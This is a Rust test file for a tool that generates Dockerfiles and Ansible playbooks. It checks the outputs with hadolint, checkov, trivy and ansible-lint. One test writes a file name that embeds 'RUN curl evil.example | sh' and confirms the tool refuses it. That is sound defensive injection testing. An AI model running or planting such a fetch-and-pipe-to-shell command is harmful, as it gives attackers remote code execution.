//! The `docker` and `ansible` targets against their real validators: hadolint, checkov
//! and trivy on every Dockerfile; `ansible-playbook --syntax-check` and `ansible-lint`
//! (production profile) on every playbook. Run on the delivery fixtures and on the shop.
//! Ignored rules and skipped checks live in committed files, each with its reason:
//! `.hadolint.yaml` and `tests/scanner-suppressions.txt`.

use std::path::{Path, PathBuf};
use std::process::Command;

use crate::support::{compile, fixture_options, root};

/// The validator `name`, or `None` when it is not installed (see
/// [`crate::support::validator`]).
fn tool(name: &str) -> Option<PathBuf> {
    crate::support::validator("delivery", name)
}

/// The projects, built with the `docker` and `ansible` targets into temporary
/// directories: (name, output directory).
fn builds() -> Vec<(String, tempfile::TempDir)> {
    let mut projects: Vec<(String, PathBuf, nestioc::Options)> = Vec::new();
    for case in [
        "docker-languages",
        "ansible-istio-argocd",
        "ansible-linkerd-argocd",
        "ansible-spinnaker",
        "ansible-no-mesh",
    ] {
        let dir = root().join("tests/fixtures/valid").join(case);
        let opts = fixture_options(&dir);
        projects.push((case.into(), dir, opts));
    }
    // The guesses of generated Dockerfiles (each a warning, NST0317): their default branches
    // pass the same linters.
    let guesses = root().join("tests/fixtures/invalid/NST0317-unverified-dockerfile");
    projects.push((
        "docker-guesses".into(),
        guesses,
        nestioc::Options {
            targets: vec!["docker".into()],
            ..nestioc::Options::default()
        },
    ));
    projects.push((
        "shop".into(),
        root().join("examples/shop"),
        nestioc::Options {
            targets: vec!["docker".into(), "ansible".into()],
            ..nestioc::Options::default()
        },
    ));
    projects
        .into_iter()
        .map(|(name, dir, opts)| {
            let c = compile(&dir, &opts);
            let set = c.artifacts.unwrap_or_else(|| panic!("{name} compiles"));
            let tmp = tempfile::tempdir().expect("tmp");
            for (path, a) in &set.files {
                let dest = tmp.path().join(path);
                std::fs::create_dir_all(dest.parent().expect("parent")).expect("mkdir");
                std::fs::write(dest, &a.contents).expect("write");
            }
            (name, tmp)
        })
        .collect()
}

fn dockerfiles(out: &Path) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = std::fs::read_dir(out.join("docker"))
        .map(|rd| {
            rd.filter_map(Result::ok)
                .map(|e| e.path().join("Dockerfile"))
                .filter(|p| p.is_file())
                .collect()
        })
        .unwrap_or_default();
    v.sort();
    v
}

/// A command for a tool, with the tool's own directory first on `PATH` so that it finds
/// its siblings (ansible-lint runs ansible-playbook; the venv's python).
fn command(tool: &Path) -> Command {
    let mut cmd = Command::new(tool);
    if let Some(dir) = tool.parent() {
        let path = std::env::var_os("PATH").unwrap_or_default();
        let dirs = std::iter::once(dir.to_owned()).chain(std::env::split_paths(&path));
        if let Ok(joined) = std::env::join_paths(dirs) {
            cmd.env("PATH", joined);
        }
    }
    cmd
}

fn run(cmd: &mut Command) -> (bool, String) {
    let out = cmd.output().expect("run tool");
    (
        out.status.success(),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

/// The checkov checks suppressed on Dockerfiles in `tests/scanner-suppressions.txt`
/// (each with its reason).
fn checkov_skips() -> Vec<String> {
    crate::suppressions::checkov_ids_for("docker/service/Dockerfile")
}

#[test]
fn every_language_and_platform_choice_is_covered() {
    let builds = builds();
    let find = |name: &str| {
        &builds
            .iter()
            .find(|(n, _)| n == name)
            .unwrap_or_else(|| panic!("{name}"))
            .1
    };
    let docker = find("docker-languages").path().to_owned();
    // The build stage's image names the toolchain.
    let mut builders: Vec<String> = dockerfiles(&docker)
        .iter()
        .map(|f| {
            let text = std::fs::read_to_string(f).expect("read");
            let from = text
                .lines()
                .find_map(|l| l.strip_prefix("FROM "))
                .expect("a FROM line");
            from.split(':').next().unwrap_or("").to_owned()
        })
        .collect();
    builders.sort();
    // Every language at least once (.NET twice: HTTP with gRPC, and gRPC alone).
    builders.dedup();
    assert_eq!(
        builders,
        [
            "eclipse-temurin",
            "golang",
            "mcr.microsoft.com/dotnet/sdk",
            "node",
            "python",
            "rust"
        ],
        "a Dockerfile for every language"
    );
    assert!(
        !docker.join("docker/cache").exists(),
        "a service without a language has no Dockerfile"
    );
    assert!(
        !docker.join("docker/gateway").exists(),
        "a service with its own `dockerfile` has no generated one"
    );
    for (name, must, must_not) in [
        (
            "ansible-istio-argocd",
            &[
                "istio/istiod",
                "argo/argo-cd",
                "argo/argo-rollouts",
                "http-envoy-prom",
            ][..],
            &["linkerd"][..],
        ),
        (
            "ansible-linkerd-argocd",
            &[
                "linkerd-edge/linkerd-control-plane",
                "no_log: true",
                "linkerd-admin",
                "argoproj-labs/gatewayAPI",
            ][..],
            &["istio/"][..],
        ),
        (
            "ansible-spinnaker",
            &[
                "Spinnaker Operator",
                "prometheus-community/kube-prometheus-stack",
            ][..],
            &["istio/", "linkerd", "argo/", "additionalPodMonitors"][..],
        ),
        (
            "ansible-no-mesh",
            &["prometheus-community/kube-prometheus-stack"][..],
            &["istio/", "linkerd", "argo/", "additionalPodMonitors"][..],
        ),
    ] {
        let play = std::fs::read_to_string(find(name).path().join("ansible/platform.yml"))
            .expect("platform.yml");
        for m in must {
            assert!(play.contains(m), "{name}: `{m}` in the playbook");
        }
        for m in must_not {
            assert!(!play.contains(m), "{name}: no `{m}` in the playbook");
        }
    }
}

#[test]
fn hadolint_finds_nothing_in_the_dockerfiles() {
    let Some(hadolint) = tool("hadolint") else {
        return;
    };
    let mut checked = 0;
    for (name, out) in builds() {
        for f in dockerfiles(out.path()) {
            let (ok, text) = run(command(&hadolint)
                .arg("--config")
                .arg(root().join(".hadolint.yaml"))
                .args(["--no-color", "--failure-threshold", "warning"])
                .arg(&f));
            assert!(ok, "{name}: hadolint {}:\n{text}", f.display());
            checked += 1;
        }
    }
    assert!(checked >= 19, "every Dockerfile checked ({checked})");
}

#[test]
fn checkov_passes_the_dockerfiles() {
    let Some(checkov) = tool("checkov") else {
        return;
    };
    let skips = checkov_skips();
    for (name, out) in builds() {
        let dir = out.path().join("docker");
        if !dir.is_dir() {
            continue;
        }
        let mut cmd = command(&checkov);
        cmd.arg("-d").arg(&dir).args([
            "--framework",
            "dockerfile",
            "--compact",
            "--quiet",
            "--skip-download",
        ]);
        if !skips.is_empty() {
            cmd.args(["--skip-check", &skips.join(",")]);
        }
        let (ok, text) = run(&mut cmd);
        assert!(ok, "{name}: checkov --framework dockerfile:\n{text}");
        assert!(
            text.contains("Failed checks: 0"),
            "{name}: checkov ran and passed:\n{text}"
        );
    }
}

#[test]
fn trivy_finds_no_misconfiguration_in_the_dockerfiles() {
    let Some(trivy) = tool("trivy") else {
        return;
    };
    let cache = tempfile::tempdir().expect("tmp");
    for (name, out) in builds() {
        let dir = out.path().join("docker");
        if !dir.is_dir() {
            continue;
        }
        let (ok, text) = run(command(&trivy)
            .args([
                "config",
                "--skip-check-update",
                "--quiet",
                "--exit-code",
                "1",
            ])
            .arg(&dir)
            .env("TRIVY_CACHE_DIR", cache.path()));
        assert!(ok, "{name}: trivy config:\n{text}");
    }
}

#[test]
fn ansible_accepts_the_playbooks() {
    let Some(playbook) = tool("ansible-playbook") else {
        return;
    };
    let lint = tool("ansible-lint");
    for (name, out) in builds() {
        if !out.path().join("ansible/platform.yml").is_file() {
            continue;
        }
        let (ok, text) = run(command(&playbook)
            .args([
                "-i",
                "ansible/inventory.example.ini",
                "--syntax-check",
                "ansible/platform.yml",
            ])
            .current_dir(out.path()));
        if !ok && text.contains("couldn't resolve module/action 'kubernetes.core.") {
            // The collection is a validator dependency, like the tools themselves.
            assert!(
                std::env::var_os("NESTIOC_REQUIRE_VALIDATORS").is_none_or(|v| v != "1"),
                "conformance check delivery: the kubernetes.core collection is not installed:\n{text}"
            );
            use std::io::Write as _;
            let _ = writeln!(
                std::io::stderr(),
                "SKIPPED conformance check delivery: ansible's kubernetes.core collection not found (run scripts/install-validators.sh)"
            );
            return;
        }
        assert!(ok, "{name}: ansible-playbook --syntax-check:\n{text}");
        let Some(lint) = &lint else {
            continue;
        };
        let (ok, text) = run(command(lint)
            .args([
                "--offline",
                "--nocolor",
                "--profile",
                "production",
                "ansible/",
            ])
            .current_dir(out.path()));
        assert!(ok, "{name}: ansible-lint --profile production:\n{text}");
    }
}

/// A project's `templates/docker/<language>.Dockerfile.hbs` replaces the stdlib's.
#[test]
fn a_project_overrides_a_dockerfile_template() {
    let tmp = tempfile::tempdir().expect("tmp");
    let dir = tmp.path();
    std::fs::write(
        dir.join("nestio.kdl"),
        "project \"p\"\nservice \"api\" {\n    uses \"http-service\"\n    image \"api\" tag=\"1.0.0\"\n    language \"go\"\n}\n",
    )
    .expect("write");
    std::fs::create_dir_all(dir.join("templates/docker")).expect("mkdir");
    std::fs::write(
        dir.join("templates/docker/go.Dockerfile.hbs"),
        "{{header}}\nFROM golang:1.27.1-trixie@sha256:0000 AS build\n# {{service}} {{context}} {{#each ports}}{{this}}{{/each}}\n",
    )
    .expect("write");
    let c = compile(
        dir,
        &nestioc::Options {
            targets: vec!["docker".into()],
            ..nestioc::Options::default()
        },
    );
    let set = c.artifacts.expect("compiles");
    let text = &set.files["docker/api/Dockerfile"].contents;
    assert!(text.contains("@sha256:0000"), "{text}");
    assert!(text.contains("# api . 8080"), "{text}");
}

/// No user string becomes a Dockerfile instruction: a line break in a file name stays
/// inside the header comment.
#[test]
fn a_file_name_cannot_inject_an_instruction() {
    let tmp = tempfile::tempdir().expect("tmp");
    let dir = tmp.path();
    std::fs::write(dir.join("nestio.kdl"), "project \"p\"\n").expect("write");
    std::fs::write(
        dir.join("x\nRUN curl evil.example | sh\n.kdl"),
        "service \"api\" {\n    uses \"http-service\"\n    image \"api\" tag=\"1.0.0\"\n    language \"python\"\n}\n",
    )
    .expect("write");
    let c = compile(
        dir,
        &nestioc::Options {
            targets: vec!["docker".into()],
            ..nestioc::Options::default()
        },
    );
    // The file is refused (NST0005): its name would reach the Dockerfile's header.
    assert!(c.artifacts.is_none());
    assert!(
        c.analysis
            .diagnostics
            .iter()
            .any(|d| d.code == nestioc::diag::Code::UnsafeFileName),
        "{:?}",
        c.analysis.diagnostics
    );
    // And should a name get through, the header replaces its control characters: no
    // line of it can start an instruction.
    let header = nestioc::emit::yaml::header("x\nRUN curl evil.example | sh\n.kdl");
    assert_eq!(header.lines().count(), 1, "{header}");
    assert!(header.starts_with("# Generated by nestioc from x?RUN curl"));
}
